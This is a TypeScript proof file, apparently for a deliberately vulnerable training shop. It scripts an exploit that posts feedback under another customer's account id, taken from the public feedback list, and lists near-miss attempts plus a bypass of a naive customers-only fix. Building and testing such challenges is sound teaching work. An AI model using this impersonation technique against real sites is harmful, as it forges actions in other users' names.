import { leaveFeedback } from '@fruit/challenge-kit/leave-feedback'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

interface Row {
  readonly UserId: number | null
}

/** Returns the account id of another customer from the public list of feedback. */
async function otherCustomerId(attacker: Attacker): Promise<number> {
  const { data } = (await attacker.get('/api/Feedbacks')).json()
  return (data as Row[]).flatMap(({ UserId }) => UserId ?? []).at(-1)!
}

async function ownId(attacker: Attacker): Promise<number> {
  await attacker.becomeCustomer()
  return (await attacker.get('/rest/user/whoami')).json().user.id
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await leaveFeedback(attacker, { UserId: await otherCustomerId(attacker) })
  },
  nearMisses: {
    'feedback with the own number': async (attacker) => {
      await leaveFeedback(attacker, { UserId: await ownId(attacker) })
    },
    'feedback of a visitor without any number': (attacker) => leaveFeedback(attacker),
    'feedback of a customer who stays anonymous': async (attacker) => {
      await attacker.becomeCustomer()
      await leaveFeedback(attacker, { UserId: null })
    },
    'a captcha that is not solved': async (attacker) => {
      await leaveFeedback(attacker, { UserId: await otherCustomerId(attacker), captcha: 'none' })
    },
    'the number of an account that there is not': (attacker) => leaveFeedback(attacker, { UserId: 4711 }),
    'the signature of somebody else in the comment alone': (attacker) =>
      leaveFeedback(attacker, { comment: `Crisp. (***in@${attacker.domain})` }),
  },
  bypasses: {
    'believe-customers-only': async (attacker) => {
      await attacker.becomeCustomer()
      await leaveFeedback(attacker, { UserId: await otherCustomerId(attacker) })
    },
  },
})
